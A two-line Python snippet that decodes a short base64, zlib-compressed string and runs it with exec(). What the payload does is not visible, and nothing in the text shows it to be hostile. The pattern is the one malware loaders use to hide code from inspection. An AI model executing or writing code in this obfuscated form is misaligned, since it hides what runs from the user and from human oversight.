import zlib, base64
exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=')))
